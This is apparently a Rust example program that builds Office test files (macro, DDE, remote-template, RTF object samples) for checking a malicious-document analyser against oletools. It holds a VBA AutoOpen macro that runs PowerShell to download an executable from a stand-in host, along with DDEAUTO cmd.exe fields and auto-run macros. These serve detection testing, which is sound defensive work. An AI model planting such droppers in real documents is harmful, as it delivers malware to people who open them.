//! Writes the office test documents (the same builders as `tests/office.rs`) into a directory,
//! for manual checks and for the oletools comparison:
//! `cargo run -p spamhattan-analysis --no-default-features --example make_office_fixtures -- DIR`
//! then `tests/oracles/oletools_compare.py DIR`.

#[path = "../tests/common/office.rs"]
mod build;

const DROPPER: &str = "Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\n    CreateObject(\"WScript.Shell\").Run \"powershell -c iwr http://203.0.113.7/p.exe -OutFile p.exe\", 0\nEnd Sub\n";
const WRITER: &str = "Attribute VB_Name = \"ThisWorkbook\"\nSub Workbook_Open()\n    Open \"C:\\x.bat\" For Output As #1\n    Print #1, \"calc\"\n    Close #1\nEnd Sub\n";
const HARMLESS: &str =
    "Attribute VB_Name = \"Module1\"\nFunction Add(a, b)\n    Add = a + b\nEnd Function\n";

fn main() -> std::io::Result<()> {
    let Some(dir) = std::env::args().nth(1) else {
        eprintln!("usage: make_office_fixtures DIR");
        std::process::exit(2);
    };
    let dir = std::path::PathBuf::from(dir);
    std::fs::create_dir_all(&dir)?;
    let native = build::package_native("run.bat", b"@echo off\r\nstart calc\r\n");
    let files: Vec<(&str, Vec<u8>)> = vec![
        (
            "macro-dropper.doc",
            build::doc_with_macros(&[("ThisDocument", DROPPER)]),
        ),
        (
            "macro-writer.doc",
            build::doc_with_macros(&[("ThisWorkbook", WRITER)]),
        ),
        (
            "macro-harmless.doc",
            build::doc_with_macros(&[("Module1", HARMLESS)]),
        ),
        (
            "macro-dropper.docm",
            build::docm(&[("ThisDocument", DROPPER), ("Module1", HARMLESS)]),
        ),
        (
            "remote-template.docx",
            build::docx_remote_template("http://198.51.100.4/t.dotm"),
        ),
        (
            "ddeauto.docx",
            build::docx_dde(
                " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ",
                "\"/k calc.exe\" ",
            ),
        ),
        (
            "ddeauto.doc",
            build::doc_with_field("DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"", false),
        ),
        ("page-field.doc", build::doc_with_field("PAGE", false)),
        ("xlm-sheet.xls", build::xls_with_macro_sheet(false)),
        ("encrypted.docx", build::encrypted_ooxml()),
        (
            "embedded-package.docx",
            build::docx_embedded_package("invoice.vbs", b"WScript.Echo 1\r\n"),
        ),
        (
            "package.rtf",
            build::rtf_object("Package", &native, " {\\*\\junk 0f0f} \r\n"),
        ),
        (
            "equation.rtf",
            build::rtf_object("Equation.3", &[0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4], "\n"),
        ),
    ];
    for (name, data) in files {
        std::fs::write(dir.join(name), data)?;
    }
    Ok(())
}
